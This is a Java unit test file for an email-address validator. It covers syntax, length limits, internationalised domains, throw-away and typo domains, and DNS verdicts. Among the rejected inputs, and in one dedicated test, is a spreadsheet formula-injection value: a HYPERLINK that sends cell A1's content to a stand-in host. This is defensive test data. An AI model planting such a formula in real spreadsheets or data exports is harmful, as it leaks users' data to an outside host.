package dev.mailroom.model.validation;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AddressCheckerTest {
    private static final AddressChecker CHECKER = AddressChecker.withBundledLists();

    private static AddressVerdict offline(String s) {
        return CHECKER.verdict(s);
    }

    private static AddressVerdict withDns(String s, MailDomainStatus.Kind kind) {
        return CHECKER.judge(
                CHECKER.examine(s), new MailDomainStatus(kind, java.util.List.of(), "time-out"), Optional.empty());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a@b.c", "jane.doe@example.co.uk", "x+tag@sub.domain.org", "o'brien@irish.ie", "user@xn--bcher-kva.ch",
                "josé@correo.es", "用户@例子.广告", "test@[192.0.2.1]", "test@[IPv6:2001:db8::1]", "\"john doe\"@acme.net",
                "a.b-c_d@e-f.gh", "!#$%&'*/=?^_`{|}~@acme.io"
            })
    void acceptsWhatMailServersAccept(String s) {
        assertThat(AddressSyntax.parse(s).valid()).as(s).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "plain",
                "@acme.com",
                "jane@",
                "jane@@acme.com",
                "jane..doe@acme.com",
                ".jane@acme.com",
                "jane.@acme.com",
                "jane doe@acme.com",
                "jane@acme..com",
                "jane@-acme.com",
                "jane@acme-.com",
                "jane@acme.com (Jane)",
                "Jane <jane@acme.com>",
                "jane@acme_corp.com",
                "\"unclosed@acme.com",
                "jane@[300.1.1.1]",
                "jane@[IPv6:1::2::3]",
                "jane@acme.123",
                "jane\r\n@acme.com",
                "a\"b\"@acme.com",
                "=hyperlink(\"http://evil.example/?\"&a1;\"click\")@evil.example",
                "jane@xn--zz.com",
                "jane@acme.com\u0000"
            })
    void refusesWhatMailServersRefuse(String s) {
        AddressSyntax.Result r = AddressSyntax.parse(s);
        assertThat(r.valid()).as(s).isFalse();
        assertThat(r.problem()).as(s).isNotBlank().endsWith(".");
    }

    @Test
    void lengthLimitsFollowRfc5321() {
        String local64 = "a".repeat(64);
        assertThat(AddressSyntax.parse(local64 + "@acme.com").valid()).isTrue();
        assertThat(AddressSyntax.parse(local64 + "a@acme.com").problem())
                .contains("65 bytes")
                .contains("64");
        // 64 octets of UTF-8 is 32 two-byte letters
        assertThat(AddressSyntax.parse("é".repeat(33) + "@acme.com").valid()).isFalse();
        String label63 = "b".repeat(63);
        assertThat(AddressSyntax.parse("a@" + label63 + ".com").valid()).isTrue();
        assertThat(AddressSyntax.parse("a@" + label63 + "b.com").problem()).contains("63");
        String longDomain = (label63 + ".").repeat(4) + "com";
        assertThat(AddressSyntax.parse("a@" + longDomain).problem()).contains("253");
        String hugeInput = "a".repeat(2_000_000) + "@acme.com";
        assertThat(AddressSyntax.parse(hugeInput).problem()).contains("2000009 characters");
    }

    @Test
    void normalisesDomainCaseTrailingDotSpacesAndNfc() {
        AddressVerdict v = offline("  Jane.Doe@ACME.Example.COM. ");
        assertThat(v.address()).hasValue("Jane.Doe@acme.example.com");
        assertThat(v.notes())
                .anyMatch(n -> n.contains("lower case"))
                .anyMatch(n -> n.contains("dot at the end"))
                .anyMatch(n -> n.contains("spaces"));
        // "e" + combining acute becomes "é"
        AddressSyntax.Parsed p =
                AddressSyntax.parse("jose\u0301@acme.com").parsed().orElseThrow();
        assertThat(p.localPart()).isEqualTo("jos\u00e9");
        assertThat(p.notes()).anyMatch(n -> n.contains("NFC"));
    }

    @Test
    void internationalDomainsShownInPunycodeAndUnicode() {
        AddressSyntax.Parsed p = AddressSyntax.parse("info@Bücher.CH").parsed().orElseThrow();
        assertThat(p.domainAscii()).isEqualTo("xn--bcher-kva.ch");
        assertThat(p.domainUnicode()).isEqualTo("bücher.ch");
        AddressSyntax.Parsed back =
                AddressSyntax.parse("kim@xn--bcher-kva.ch").parsed().orElseThrow();
        assertThat(back.unicode()).isEqualTo("kim@bücher.ch");
        AddressVerdict v = offline("用户@例子.广告");
        assertThat(v.notes())
                .anyMatch(n -> n.contains("xn--") && n.contains("例子.广告"))
                .anyMatch(n -> n.contains("SMTPUTF8"));
    }

    @Test
    void quotedLocalPartsAndLiteralsAreValidButRisky() {
        assertThat(offline("\"john doe\"@acme.net").verdict()).isEqualTo(Verdict.RISKY);
        assertThat(offline("\"john doe\"@acme.net").reasonText()).contains("quotes");
        AddressVerdict lit = offline("ops@[192.0.2.1]");
        assertThat(lit.verdict()).isEqualTo(Verdict.RISKY);
        assertThat(lit.reasonText()).contains("IP address");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a@b.invalid",
                "a@host.test",
                "a@localhost",
                "a@x.example",
                "a@facebookcorewwwi.onion",
                "a@printer.local",
                "a@example.com",
                "a@mail.example.org",
                "a@router.home.arpa"
            })
    void specialUseNamesAreUndeliverable(String s) {
        AddressVerdict v = offline(s);
        assertThat(v.verdict()).as(s).isEqualTo(Verdict.UNDELIVERABLE);
        assertThat(v.reasonText()).contains("takes no mail");
    }

    @Test
    void roleDisposableAndTyposAreRiskyWithWords() {
        assertThat(offline("Info@acme.io").reasonText()).contains("role address");
        assertThat(offline("no-reply+x@acme.io").verdict()).isEqualTo(Verdict.RISKY);
        assertThat(offline("jane@acme.io").verdict()).isEqualTo(Verdict.DELIVERABLE);
        AddressVerdict d = offline("x@mailinator.com");
        assertThat(d.verdict()).isEqualTo(Verdict.RISKY);
        assertThat(d.reasonText()).contains("throw-away");
        assertThat(offline("x@foo.mailinator.com").reasonText()).contains("under mailinator.com");
        assertThat(offline("jane@gmial.com").suggestion()).hasValue("jane@gmail.com");
        assertThat(offline("jane@hotmial.con").suggestion()).hasValue("jane@hotmail.com");
        assertThat(offline("jane@yaho.com").suggestion()).hasValue("jane@yahoo.com");
        assertThat(offline("jane@gmail.co").suggestion()).hasValue("jane@gmail.com");
        assertThat(offline("jane@outlook.cmo").suggestion()).hasValue("jane@outlook.com");
        assertThat(offline("jane@acme.con").suggestion()).hasValue("jane@acme.com");
        assertThat(offline("jane@gmial.com").reasonText()).contains("did you mean jane@gmail.com?");
        // real domains near common ones get no suggestion
        assertThat(offline("jane@gmail.com").suggestion()).isEmpty();
        assertThat(offline("jane@yahoo.de").suggestion()).isEmpty();
        assertThat(offline("jane@gmx.at").suggestion()).isEmpty();
        assertThat(offline("jane@acme.co").suggestion()).isEmpty();
        assertThat(offline("jane@university.edu").suggestion()).isEmpty();
    }

    @Test
    void dnsOutcomesDecideTheVerdictInWords() {
        assertThat(withDns("jane@acme.io", MailDomainStatus.Kind.ACCEPTS_MAIL).verdict())
                .isEqualTo(Verdict.DELIVERABLE);
        AddressVerdict nullMx = withDns("jane@acme.io", MailDomainStatus.Kind.NULL_MX);
        assertThat(nullMx.verdict()).isEqualTo(Verdict.UNDELIVERABLE);
        assertThat(nullMx.reasonText()).contains("null MX").contains("accepts no mail");
        assertThat(withDns("jane@acme.io", MailDomainStatus.Kind.NO_SUCH_DOMAIN).reasonText())
                .contains("does not exist");
        assertThat(withDns("jane@acme.io", MailDomainStatus.Kind.NO_MAIL_HOST).reasonText())
                .contains("no mail server");
        AddressVerdict unknown = withDns("info@acme.io", MailDomainStatus.Kind.UNKNOWN);
        assertThat(unknown.verdict()).isEqualTo(Verdict.UNKNOWN);
        assertThat(unknown.reasons()).hasSize(2).first().asString().contains("could not answer");
        // undeliverable outranks everything
        assertThat(withDns("info@gmial.com", MailDomainStatus.Kind.NO_SUCH_DOMAIN)
                        .verdict())
                .isEqualTo(Verdict.UNDELIVERABLE);
    }

    @Test
    void suppressionMakesItUndeliverable() {
        AddressVerdict v = CHECKER.judge(
                CHECKER.examine("jane@acme.io"),
                new MailDomainStatus(MailDomainStatus.Kind.ACCEPTS_MAIL, java.util.List.of("mx.acme.io"), ""),
                Optional.of("hard bounce on 2026-11-02"));
        assertThat(v.verdict()).isEqualTo(Verdict.UNDELIVERABLE);
        assertThat(v.reasonText()).contains("suppresses it (hard bounce on 2026-11-02)");
    }

    @Test
    void formulaLookingCellsAreNotTakenAsAddresses() {
        AddressVerdict v = offline("=hyperlink(\"http://evil.example/?\"&a1;\"click\")@evil.example");
        assertThat(v.verdict()).isEqualTo(Verdict.UNDELIVERABLE);
        assertThat(v.reasonText()).contains("spreadsheet formula");
        assertThat(offline("=cmd@acme.io").verdict()).isEqualTo(Verdict.RISKY);
    }

    @Test
    void disposableListLoadsFromAFileAndTheBundledOneIsThere(@TempDir Path dir) throws Exception {
        assertThat(DisposableDomains.bundled().size()).isGreaterThan(8000);
        Path f = dir.resolve("list.conf");
        Files.writeString(f, "# mine\n\nThrowAway.xyz\n" + "x".repeat(400) + "\n");
        DisposableDomains mine = DisposableDomains.fromFile(f);
        assertThat(mine.size()).isEqualTo(1);
        assertThat(new AddressChecker(mine).verdict("a@throwaway.xyz").reasonText())
                .contains("throw-away");
        assertThat(new AddressChecker(mine).verdict("a@mailinator.com").verdict())
                .isEqualTo(Verdict.DELIVERABLE);
    }

    @Test
    void editDistanceCountsSwapsAsOne() {
        assertThat(TypoSuggestions.distance("gmial.com", "gmail.com", 2)).isEqualTo(1);
        assertThat(TypoSuggestions.distance("abc", "xyz", 1)).isEqualTo(2);
        assertThat(TypoSuggestions.distance("hotmial.com", "hotmail.com", 2)).isEqualTo(1);
    }
}
